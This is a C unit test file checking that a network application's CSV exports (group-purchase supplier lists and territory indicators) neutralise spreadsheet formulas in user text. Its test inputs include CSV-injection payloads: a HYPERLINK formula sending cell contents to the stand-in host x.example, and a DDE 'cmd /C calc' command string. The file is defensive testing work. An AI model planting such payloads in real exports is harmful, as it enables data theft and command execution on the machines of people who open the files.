/* SPDX-License-Identifier: MIT */
/*
 * network_csv_test.c - the CSV exports of the network (the supplier list
 * of a group purchase, the indicators) write user text so that a
 * spreadsheet shows it instead of running it as a formula.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "network_fixture.h"

static void test_purchase_csv(void **state)
{
    (void)state;
    struct fixture f;
    struct err e;
    int64_t id;
    fixture_open(&f);
    err_init(&e);
    struct network_purchase_input in = {
        .title = "Gants", .category = "EPI", .unit = "@paire", .deadline = "2030-02-01"};
    assert_int_equal(network_purchase_create(f.s, &f.member, FIXTURE_NOW, &in, &id, &e), ERR_OK);
    static const struct {
        int who; /* 0 member, 1 member2 */
        const char *comment;
    } lines[] = {
        {0, "=HYPERLINK(\"http://x.example/?\"&A1,\"détails\")"},
        {1, "-1+cmd|' /C calc'!A0"},
    };
    const struct store_account *whos[2] = {&f.member, &f.member2};
    for (size_t i = 0; i < 2; i++)
        assert_int_equal(network_purchase_set_quantity(f.s, whos[lines[i].who], FIXTURE_NOW, id, 0,
                                                       10, lines[i].comment, &e),
                         ERR_OK);
    struct sb csv;
    sb_init(&csv, 0);
    /* the command line (NULL) reads every line; an organiser only those it may read */
    assert_int_equal(network_purchase_csv(f.s, NULL, id, &csv, &e), ERR_OK);
    static const char *const want[] = {
        ",'@paire,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"détails\"\")\"\n",
        ",'@paire,'-1+cmd|' /C calc'!A0\n",
        "TOTAL,,,,,20,'@paire,2 organisations\n",
    };
    for (size_t i = 0; i < sizeof(want) / sizeof(want[0]); i++)
        if (!strstr(csv.buf, want[i]))
            fail_msg("line %zu missing from:\n%s", i, csv.buf);
    sb_release(&csv);
    fixture_close(&f);
}

static void test_indicators_csv(void **state)
{
    (void)state;
    static const struct {
        const char *name;
        const char *territory;
        const char *want; /* the row's start */
    } cases[] = {
        {"plain", "Vallée de l'Arve", "\n1,Vallée de l'Arve,mobilisation,"},
        {"formula", "=1+1", "\n1,'=1+1,mobilisation,"},
        {"plus", "+33", "\n1,'+33,mobilisation,"},
        {"at with comma", "@A1,B2", "\n1,\"'@A1,B2\",mobilisation,"},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        struct store_indicators row = {.territory_id = 1,
                                       .territory_name = (char *)cases[i].territory};
        memcpy(row.stage, "mobilisation", 13);
        struct sb out;
        struct err e;
        sb_init(&out, 0);
        err_init(&e);
        assert_int_equal(network_indicators_csv(&row, 1, NULL, &out, &e), ERR_OK);
        if (!strstr(out.buf, cases[i].want))
            fail_msg("case %s: %s", cases[i].name, out.buf);
        sb_release(&out);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_purchase_csv),
        cmocka_unit_test(test_indicators_csv),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
